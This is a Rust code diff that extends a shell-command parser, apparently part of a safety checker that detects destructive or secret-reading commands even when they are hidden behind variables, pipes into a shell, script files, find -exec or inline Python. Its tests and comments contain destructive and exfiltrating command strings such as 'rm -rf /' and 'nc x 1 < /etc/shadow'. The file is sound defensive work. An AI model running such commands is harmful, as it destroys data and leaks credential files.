@@ -13,6 +13,7 @@
 //! [`SimpleCommand::dynamic_name`].
 
 use std::cell::RefCell;
+use std::collections::HashMap;
 use std::path::{Path, PathBuf};
 
 use tree_sitter::{Node, Parser, Tree};
@@ -110,9 +111,81 @@ pub fn parse_shell(text: &str, cwd: Option<PathBuf>) -> ParsedShell {
         out: &mut out,
         cwd,
         nest: 0,
+        vars: HashMap::new(),
+        written: HashMap::new(),
     };
     w.parse_into(text, 0);
+    // Text piped or fed into a shell (`echo 'rm -rf /' | sh`, `sh <<EOF`, `echo .. | at now`)
+    // is a script of its own: parse it too, wherever it sits in the line.
+    let mut k = 0;
+    while k < w.out.pipelines.len() && k < 256 {
+        let scripts = stdin_scripts(&w.out.pipelines[k]);
+        for (script, cwd) in scripts {
+            let saved = std::mem::replace(&mut w.cwd, cwd);
+            w.parse_into(&script, 1);
+            w.cwd = saved;
+        }
+        k += 1;
+    }
     out
+}
+
+/// Scripts that a pipeline feeds to a shell on stdin: a here-document or here-string of a
+/// shell (or `at`/`batch`), or the literal words an upstream `echo`/`printf` prints into it.
+fn stdin_scripts(pipeline: &Pipeline) -> Vec<(String, Option<PathBuf>)> {
+    let mut out = Vec::new();
+    for (i, cmd) in pipeline.iter().enumerate() {
+        let name = cmd.name();
+        let runs_stdin = match name {
+            "at" | "batch" => !cmd.argv.iter().any(|a| a == "-f" || a == "-l" || a == "-c"),
+            n if is_shell(n) => {
+                let args: Vec<&str> = cmd.argv.iter().skip(1).map(String::as_str).collect();
+                let c = args
+                    .iter()
+                    .any(|a| a.starts_with('-') && !a.starts_with("--") && a.len() > 1 && a[1..].contains('c'));
+                !c && (args.iter().all(|a| a.starts_with('-')) || args.contains(&"-s"))
+            }
+            _ => false,
+        };
+        if !runs_stdin {
+            continue;
+        }
+        if let Some(t) = &cmd.stdin_text {
+            out.push((t.clone(), cmd.cwd.clone()));
+        }
+        if i > 0 {
+            if let Some(text) = printed_text(&pipeline[i - 1]) {
+                out.push((text, cmd.cwd.clone()));
+            }
+        }
+    }
+    out
+}
+
+/// The text an `echo`/`printf` of literal words prints (None for other commands, or when a
+/// word is not literal).
+pub(crate) fn printed_text(cmd: &SimpleCommand) -> Option<String> {
+    let args: Vec<&str> = cmd.argv.iter().skip(1).map(String::as_str).collect();
+    let text = match cmd.name() {
+        "echo" => args
+            .iter()
+            .skip_while(|a| matches!(**a, "-n" | "-e" | "-E" | "-ne" | "-en"))
+            .copied()
+            .collect::<Vec<_>>()
+            .join(" "),
+        "printf" => {
+            // The format's `\n` escapes are newlines; `%s` takes the following words in turn.
+            let (fmt, rest) = args.split_first()?;
+            let mut s = fmt.replace("\\n", "\n").replace("%s", "");
+            for r in rest {
+                s.push('\n');
+                s.push_str(r);
+            }
+            s
+        }
+        _ => return None,
+    };
+    (is_literal(&text) && !text.trim().is_empty()).then_some(text)
 }
 
 struct Walker<'o> {
@@ -120,6 +193,11 @@ struct Walker<'o> {
     cwd: Option<PathBuf>,
     /// Current depth of the tree walk (bounded by [`MAX_NODE_DEPTH`]).
     nest: usize,
+    /// Variables given a literal value earlier in the line (`d=/; rm -rf $d`).
+    vars: HashMap<String, String>,
+    /// Files written earlier in the line by `echo`/`printf`/`cat <<EOF` (`echo .. > x.sh`), by
+    /// path as written, with their text: running one of them runs that text.
+    written: HashMap<String, String>,
 }
 
 /// Syntax trees deeper than this are a parse error (and never a stack overflow).
@@ -169,13 +247,18 @@ impl Walker<'_> {
                 let mut cmd = SimpleCommand::default();
                 if node.kind() == "variable_assignment" {
                     self.visit_subs(node, src, depth);
-                    cmd.argv.push(word(node, src));
+                    let w = word(node, src);
+                    self.assign(&w);
+                    cmd.argv.push(w);
                 } else {
                     if let Some(kw) = node.child(0) {
                         cmd.argv.push(text(kw, src).to_string());
                     }
                     let mut tail = Vec::new();
                     self.fill(node, src, depth, &mut cmd, &mut tail);
+                    for w in cmd.argv.iter().skip(1) {
+                        self.assign(w);
+                    }
                 }
                 let mut p = Vec::new();
                 self.push_command(cmd, depth, &mut p);
@@ -208,6 +291,36 @@ impl Walker<'_> {
                 }
                 if !p.is_empty() {
                     self.out.pipelines.push(p);
+                }
+            }
+            // `a && b < f`: the grammar hangs the redirect on the whole list, bash on its last
+            // command; `{ ..; } > f`, `while ..; done < f`: on every command of the body.
+            "redirected_statement" => {
+                let before = self.out.pipelines.len();
+                let mut redirs = SimpleCommand::default();
+                let mut list = false;
+                let mut cursor = node.walk();
+                for child in node.named_children(&mut cursor) {
+                    match child.kind() {
+                        "file_redirect" => self.add_redirect(child, src, depth, &mut redirs),
+                        "herestring_redirect" | "heredoc_redirect" => self.visit_subs(child, src, depth),
+                        kind => {
+                            list |= kind == "list";
+                            self.visit(child, src, depth);
+                        }
+                    }
+                }
+                let start = before.min(self.out.pipelines.len());
+                let added = &mut self.out.pipelines[start..];
+                let targets: Vec<&mut SimpleCommand> = if list {
+                    added.last_mut().and_then(|p| p.last_mut()).into_iter().collect()
+                } else {
+                    added.iter_mut().flatten().collect()
+                };
+                for cmd in targets {
+                    cmd.redirects.extend(redirs.redirects.iter().cloned());
+                    cmd.appends.extend(redirs.appends.iter().cloned());
+                    cmd.inputs.extend(redirs.inputs.iter().cloned());
                 }
             }
             "command_substitution" | "process_substitution" | "subshell" => {
@@ -290,7 +403,110 @@ impl Walker<'_> {
         }
     }
 
+    /// Records `NAME=value` (a standalone assignment or `export`/`declare`): a literal value
+    /// is remembered, anything else forgets the name.
+    fn assign(&mut self, w: &str) {
+        if let Some((name, value)) = w.split_once('=') {
+            if super::is_assignment(w) {
+                let value = self.expand(value);
+                if is_literal(&value) {
+                    self.vars.insert(name.to_string(), value);
+                } else {
+                    self.vars.remove(name);
+                }
+            }
+        }
+    }
+
+    /// Expands what is known at parse time: variables given a literal value earlier in the
+    /// line, `$(echo WORD)`; `${NAME:?msg}` / `${NAME:-x}` of an unknown name become `$NAME`.
+    fn expand(&self, w: &str) -> String {
+        if !w.contains('$') && !w.contains('`') {
+            return w.to_string();
+        }
+        let mut out = String::new();
+        let b: Vec<char> = w.chars().collect();
+        let mut i = 0;
+        while i < b.len() {
+            if b[i] == '$' && b.get(i + 1) == Some(&'{') {
+                if let Some(len) = b[i + 2..].iter().position(|c| *c == '}') {
+                    let inner: String = b[i + 2..i + 2 + len].iter().collect();
+                    let name_len = inner
+                        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+                        .unwrap_or(inner.len());
+                    let (name, op) = inner.split_at(name_len);
+                    let plain = op.is_empty() || [":?", ":-", "?", ":="].iter().any(|o| op.starts_with(o));
+                    if !name.is_empty() && plain {
+                        match self.vars.get(name) {
+                            Some(v) => out.push_str(v),
+                            None => {
+                                out.push('$');
+                                out.push_str(name);
+                            }
+                        }
+                        i += len + 3;
+                        continue;
+                    }
+                }
+            } else if b[i] == '$' && b.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic() || *c == '_') {
+                let name: String = b[i + 1..]
+                    .iter()
+                    .take_while(|c| c.is_ascii_alphanumeric() || **c == '_')
+                    .collect();
+                if let Some(v) = self.vars.get(&name) {
+                    out.push_str(v);
+                    i += 1 + name.len();
+                    continue;
+                }
+            } else if b[i] == '$' && b.get(i + 1) == Some(&'(') {
+                // `$(echo /)`: a literal word printed by echo.
+                if let Some(len) = b[i + 2..].iter().position(|c| *c == ')') {
+                    let inner: String = b[i + 2..i + 2 + len].iter().collect();
+                    let words: Vec<&str> = inner.split_whitespace().collect();
+                    let simple = |x: &str| x.chars().all(|c| c.is_ascii_alphanumeric() || "/._~-*".contains(c));
+                    if words.len() == 2 && words[0] == "echo" && simple(words[1]) {
+                        out.push_str(words[1]);
+                        i += len + 3;
+                        continue;
+                    }
+                }
+            }
+            out.push(b[i]);
+            i += 1;
+        }
+        out
+    }
+
     fn push_command(&mut self, mut cmd: SimpleCommand, depth: usize, pipeline: &mut Pipeline) {
+        let mut as_written = cmd.argv.clone();
+        super::unwrap_command(&mut as_written);
+        let written_word = as_written.first().filter(|w| !is_literal(w)).cloned();
+        if !self.vars.is_empty() || cmd.argv.iter().any(|w| w.contains("${") || w.contains("$(echo")) {
+            cmd.argv = cmd.argv.iter().map(|w| self.expand(w)).collect();
+            cmd.redirects = cmd.redirects.iter().map(|w| self.expand(w)).collect();
+        }
+        // `$CMD` holding a whole command line (`c="rm -rf /"; $CMD`): its words are split.
+        if cmd.argv.first().is_some_and(|w| w.contains(' ') && is_literal(w))
+            && self.vars.values().any(|v| Some(v) == cmd.argv.first())
+        {
+            let first = cmd.argv.remove(0);
+            let mut words: Vec<String> = first.split_whitespace().map(String::from).collect();
+            words.append(&mut cmd.argv);
+            cmd.argv = words;
+        }
+        // A file written earlier in the line and read here (`psql < x.sql`, `cat x.sql | psql`):
+        // its text is what this command reads (and, for `cat`, prints).
+        if cmd.stdin_text.is_none() && !self.written.is_empty() {
+            let key = |w: &str| w.trim_start_matches("./").to_string();
+            let read = cmd
+                .inputs
+                .first()
+                .cloned()
+                .or_else(|| (cmd.argv.len() == 2 && basename(&cmd.argv[0]) == "cat").then(|| cmd.argv[1].clone()));
+            if let Some(text) = read.and_then(|f| self.written.get(&key(&f)).cloned()) {
+                cmd.stdin_text = Some(text);
+            }
+        }
         let before = cmd.argv.len();
         let original = cmd.argv.clone();
         cmd.args_from_stdin = super::unwrap_command(&mut cmd.argv);
@@ -301,7 +517,11 @@ impl Walker<'_> {
             .filter(|w| super::is_assignment(w))
             .collect();
         cmd.dynamic_name = cmd.argv.first().is_some_and(|w| !is_literal(w));
-        if cmd.argv.is_empty() && cmd.stdin_text.is_none() && cmd.assignments.is_empty() {
+        if let Some(w) = written_word.filter(|w| cmd.argv.first() != Some(w)) {
+            cmd.dynamic_name = true;
+            cmd.name_as_written = Some(w);
+        }
+        if cmd.argv.is_empty() && cmd.stdin_text.is_none() && cmd.assignments.is_empty() && cmd.redirects.is_empty() {
             return;
         }
         cmd.cwd = self.cwd.clone();
@@ -314,14 +534,86 @@ impl Walker<'_> {
             self.cwd = saved;
         }
         // `python -c 'import os; os.system("rm -rf /")'`: shell commands in the string
-        // literals of a program that runs commands.
-        for literal in shell_literals(&cmd.argv) {
+        // literals of a program that runs commands; `shutil.rmtree("/")` and reads of
+        // credential files as the commands that do the same.
+        for literal in shell_literals(&cmd.argv).into_iter().chain(inline_effects(&cmd.argv)) {
             self.parse_into(&literal, depth + 1);
         }
+        // `find .. -exec rm -rf / \;`: the command find runs.
+        for exec in find_exec(&cmd.argv) {
+            self.parse_into(&exec, depth + 1);
+        }
+        // `echo 'rm -rf ~' > x.sh && bash x.sh`: the file's text runs.
+        if let Some(text) = self.script_written(&cmd) {
+            self.parse_into(&text, depth + 1);
+        }
+        self.record_written(&cmd);
         if cmd.name() == "cd" || cmd.name() == "pushd" {
             self.cwd = resolve_cd(self.cwd.as_deref(), cmd.argv.get(1).map(String::as_str));
         }
         pipeline.push(cmd);
+    }
+
+    /// The text of a file written earlier in the line that `cmd` runs (`bash x.sh`,
+    /// `sh ./x.sh`, `source x.sh`, `./x.sh`).
+    fn script_written(&self, cmd: &SimpleCommand) -> Option<String> {
+        if self.written.is_empty() {
+            return None;
+        }
+        let key = |w: &str| w.trim_start_matches("./").to_string();
+        let name = cmd.name();
+        let file = if is_shell(name) || name == "source" || name == "." {
+            cmd.argv.iter().skip(1).find(|a| !a.starts_with('-'))?
+        } else {
+            cmd.argv.first()?
+        };
+        self.written.get(&key(file)).cloned()
+    }
+
+    /// Remembers the text `cmd` writes to its redirect targets, when it is known.
+    fn record_written(&mut self, cmd: &SimpleCommand) {
+        if cmd.redirects.is_empty() {
+            return;
+        }
+        let text = match cmd.name() {
+            "cat" | "tee" if cmd.stdin_text.is_some() => cmd.stdin_text.clone(),
+            _ => printed_text(cmd),
+        };
+        if let Some(text) = text {
+            for r in &cmd.redirects {
+                let k = r.trim_start_matches("./").to_string();
+                let entry = self.written.entry(k).or_default();
+                if !cmd.appends.contains(r) {
+                    entry.clear();
+                }
+                entry.push_str(&text);
+                entry.push('\n');
+            }
+        }
+    }
+
+    /// Records a `file_redirect` node on `cmd`: output targets (and which append), inputs.
+    fn add_redirect(&mut self, child: Node<'_>, src: &[u8], depth: usize, cmd: &mut SimpleCommand) {
+        self.visit_subs(child, src, depth);
+        let op = child.child(0).map(|c| text(c, src)).unwrap_or("");
+        let op = if op.chars().all(|c| c.is_ascii_digit()) {
+            child.child(1).map(|c| text(c, src)).unwrap_or("")
+        } else {
+            op
+        };
+        if let Some(dest) = child.child_by_field_name("destination") {
+            let target = word(dest, src);
+            let descriptor = target.chars().all(|c| c.is_ascii_digit()) || target == "-";
+            if descriptor {
+            } else if op.contains('>') {
+                if op.contains(">>") {
+                    cmd.appends.push(target.clone());
+                }
+                cmd.redirects.push(target);
+            } else if op.contains('<') {
+                cmd.inputs.push(target);
+            }
+        }
     }
 
     fn fill<'t>(
@@ -346,25 +638,7 @@ impl Walker<'_> {
                         cmd.argv.push(word(w, src));
                     }
                 }
-                "file_redirect" => {
-                    self.visit_subs(child, src, depth);
-                    let op = child.child(0).map(|c| text(c, src)).unwrap_or("");
-                    let op = if op.chars().all(|c| c.is_ascii_digit()) {
-                        child.child(1).map(|c| text(c, src)).unwrap_or("")
-                    } else {
-                        op
-                    };
-                    if let Some(dest) = child.child_by_field_name("destination") {
-                        let target = word(dest, src);
-                        let descriptor = target.chars().all(|c| c.is_ascii_digit()) || target == "-";
-                        if descriptor {
-                        } else if op.contains('>') {
-                            cmd.redirects.push(target);
-                        } else if op.contains('<') {
-                            cmd.inputs.push(target);
-                        }
-                    }
-                }
+                "file_redirect" => self.add_redirect(child, src, depth, cmd),
                 "heredoc_redirect" => {
                     let mut body = String::new();
                     collect_heredoc(child, src, &mut body);
@@ -626,20 +900,9 @@ fn unbalanced(text: &str) -> Option<String> {
 /// String literals of an inline program (`python -c`, `perl -e`, `ruby -e`, `node -e`) that
 /// runs commands (`os.system`, `subprocess`, `exec`, `system`, backticks, `child_process`).
 fn shell_literals(argv: &[String]) -> Vec<String> {
-    let Some(name) = argv.first().map(|w| basename(w)) else {
+    let Some(code) = inline_program(argv) else {
         return Vec::new();
     };
-    let inline = name.starts_with("python") || matches!(name, "perl" | "ruby" | "node" | "php" | "deno" | "bun");
-    if !inline {
-        return Vec::new();
-    }
-    let Some(i) = argv
-        .iter()
-        .position(|a| matches!(a.as_str(), "-c" | "-e" | "-r" | "--eval" | "-E"))
-    else {
-        return Vec::new();
-    };
-    let Some(code) = argv.get(i + 1) else { return Vec::new() };
     let runs = [
         "system",
         "subprocess",
@@ -685,6 +948,157 @@ fn shell_literals(argv: &[String]) -> Vec<String> {
     }
     if words.len() > 1 {
         out.push(words.join(" "));
+    }
+    out
+}
+
+/// The program text of an inline interpreter call (`python -c CODE`, `perl -e CODE`,
+/// `node -e CODE`, `awk 'PROGRAM'`), if `argv` is one.
+fn inline_program(argv: &[String]) -> Option<&String> {
+    let name = argv.first().map(|w| basename(w))?;
+    if matches!(name, "awk" | "gawk" | "mawk" | "nawk") {
+        if argv.iter().any(|a| a == "-f" || a.starts_with("--file")) {
+            return None;
+        }
+        let mut i = 1;
+        while let Some(a) = argv.get(i) {
+            match a.as_str() {
+                "-F" | "-v" => i += 2,
+                "--" => return argv.get(i + 1),
+                _ if a.starts_with('-') && a.len() > 1 => i += 1,
+                _ => return Some(a),
+            }
+        }
+        return None;
+    }
+    let inline = name.starts_with("python") || matches!(name, "perl" | "ruby" | "node" | "php" | "deno" | "bun");
+    if !inline {
+        return None;
+    }
+    let i = argv.iter().position(|a| {
+        matches!(
+            a.as_str(),
+            "-c" | "-e" | "-r" | "--eval" | "-E" | "-pe" | "-ne" | "-pie"
+        )
+    })?;
+    argv.get(i + 1)
+}
+
+/// String literals of a program, in order, with the byte offset of their opening quote.
+fn string_literals(code: &str) -> Vec<(usize, String)> {
+    let mut out = Vec::new();
+    let mut chars = code.char_indices();
+    while let Some((at, q)) = chars.next() {
+        if q != '"' && q != '\'' && q != '`' {
+            continue;
+        }
+        let mut lit = String::new();
+        while let Some((_, c)) = chars.next() {
+            if c == q {
+                break;
+            }
+            if c == '\\' {
+                if let Some((_, n)) = chars.next() {
+                    lit.push(n);
+                }
+                continue;
+            }
+            lit.push(c);
+        }
+        out.push((at, lit));
+    }
+    out
+}
+
+/// What an inline program does to files, as the shell commands that do the same, so the
+/// deletion and secrets rules judge it: `shutil.rmtree("/")` → `rm -rf /`,
+/// `os.remove(p)` → `rm -f p`, a credential file path in the program → `cat path`.
+fn inline_effects(argv: &[String]) -> Vec<String> {
+    let Some(code) = inline_program(argv) else {
+        return Vec::new();
+    };
+    // Calls that delete recursively, and ones that delete one file.
+    const RECURSIVE: &[&str] = &[
+        "rmtree(",
+        "rm_rf(",
+        "rm_r(",
+        "remove_tree(",
+        "rmSync(",
+        "rimraf(",
+        "removeSync(",
+        "remove_dir_all(",
+        "rmdirSync(",
+        "emptyDirSync(",
+    ];
+    const SINGLE: &[&str] = &["remove(", "unlink(", "unlinkSync(", "unlink ", "File.delete(", "rm_f("];
+    // Expressions for the home directory.
+    const HOME: &[&str] = &[
+        "Dir.home",
+        "homedir()",
+        "Path.home()",
+        "$ENV{HOME}",
+        "ENV['HOME']",
+        "ENV[\"HOME\"]",
+        "environ['HOME']",
+        "environ[\"HOME\"]",
+        "env.HOME",
+    ];
+    let literals = string_literals(code);
+    let mut out = Vec::new();
+    for (calls, flags) in [(RECURSIVE, "-rf"), (SINGLE, "-f")] {
+        for call in calls {
+            for (at, _) in code.match_indices(call) {
+                let start = at + call.len();
+                let rest = &code[start..];
+                let end = start + rest.find([')', ';', '\n']).unwrap_or(rest.len());
+                // The first string literal inside the call, else a home-directory expression.
+                let target = literals
+                    .iter()
+                    .find(|(pos, _)| (start..end).contains(pos))
+                    .map(|(_, l)| l.clone())
+                    .or_else(|| {
+                        HOME.iter()
+                            .any(|h| code[start..].starts_with(h))
+                            .then(|| "~".to_string())
+                    });
+                if let Some(t) = target {
+                    out.push(format!("rm {flags} {}", shell_quote(&t)));
+                }
+            }
+        }
+    }
+    for (_, lit) in &literals {
+        let path = ["~/", "/home/", "/root/", "/Users/", "/etc/"]
+            .iter()
+            .any(|p| lit.starts_with(p));
+        if path && !lit.contains(char::is_whitespace) {
+            out.push(format!("cat {}", shell_quote(lit)));
+        }
+    }
+    out
+}
+
+/// The commands `find .. -exec CMD ARGS ;` (also `-execdir`, `-ok`, `-okdir`) runs, `{}`
+/// standing for each file found.
+fn find_exec(argv: &[String]) -> Vec<String> {
+    if argv.first().map(|w| basename(w)) != Some("find") {
+        return Vec::new();
+    }
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < argv.len() {
+        if matches!(argv[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
+            let words: Vec<String> = argv[i + 1..]
+                .iter()
+                .take_while(|w| *w != ";" && *w != "+")
+                .map(|w| shell_quote(w))
+                .collect();
+            i += words.len() + 1;
+            if !words.is_empty() {
+                out.push(words.join(" "));
+            }
+        }
+        i += 1;
     }
     out
 }
@@ -776,6 +1190,13 @@ pub(crate) fn nested_script(argv: &[String]) -> Option<NestedScript> {
             None
         }
         "eval" => (argv.len() > 1).then(|| argv[1..].join(" ")).and_then(local),
+        // `script -qc 'cmd' /dev/null` runs the command under a pseudo-terminal.
+        "script" => {
+            let i = argv.iter().position(|a| {
+                a == "--command" || (a.starts_with('-') && !a.starts_with("--") && a[1..].contains('c'))
+            })?;
+            argv.get(i + 1).cloned().and_then(local)
+        }
         "su" | "runuser" => {
             let i = argv.iter().position(|a| a == "-c" || a == "--command")?;
             argv.get(i + 1).cloned().and_then(local)
@@ -914,6 +1335,58 @@ mod tests {
         let p = parse_shell("case x in a|b) rm -rf /;; esac", None);
         assert!(p.error.is_none());
         assert!(p.pipelines.iter().flatten().any(|c| c.name() == "rm"));
+    }
+
+    #[test]
+    fn literal_variables_and_echo_substitutions_are_expanded() {
+        let got = argvs("a=r; b=m; $a$b -rf ~");
+        assert!(
+            got.contains(&vec!["rm".to_string(), "-rf".into(), "~".into()]),
+            "{got:?}"
+        );
+        let got = argvs("rm -rf $(echo /) ${HOME:?}/");
+        assert!(
+            got.contains(&vec!["rm".to_string(), "-rf".into(), "/".into(), "$HOME/".into()]),
+            "{got:?}"
+        );
+        // A computed command word stays marked as such once resolved.
+        let p = parse_shell("c=rm; $c -rf x", None);
+        let rm = p.pipelines.iter().flatten().find(|c| c.name() == "rm").unwrap();
+        assert!(rm.dynamic_name && rm.name_as_written.as_deref() == Some("$c"));
+        // A value that is not literal forgets the name.
+        let got = argvs("d=/; d=$(pwd); rm -rf $d");
+        assert!(
+            got.contains(&vec!["rm".to_string(), "-rf".into(), "$d".into()]),
+            "{got:?}"
+        );
+    }
+
+    #[test]
+    fn commands_run_by_other_commands_are_parsed() {
+        for (line, want) in [
+            ("find . -exec rm -rf / \\;", "/"),
+            ("echo 'rm -rf /' > x.sh; sh x.sh", "/"),
+            ("echo 'rm -rf /' | at now", "/"),
+            ("script -qc 'rm -rf /' /dev/null", "/"),
+            ("env -S 'rm -rf /'", "/"),
+            ("python3 -c 'import shutil; shutil.rmtree(\"/\")'", "/"),
+        ] {
+            let got = argvs(line);
+            assert!(
+                got.iter().any(|a| a.first().map(|w| basename(w)) == Some("rm") && a.last().map(String::as_str) == Some(want)),
+                "{line}: {got:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn redirects_after_a_list_belong_to_its_last_command() {
+        let p = parse_shell("true && nc x 1 < /etc/shadow", None);
+        let cmds: Vec<_> = p.pipelines.into_iter().flatten().collect();
+        assert!(cmds[0].inputs.is_empty());
+        assert_eq!(cmds[1].inputs, ["/etc/shadow"]);
+        let p = parse_shell("{ echo a; echo b; } > out.txt", None);
+        assert!(p.pipelines.iter().flatten().all(|c| c.redirects == ["out.txt"]));
     }
 
     #[test]
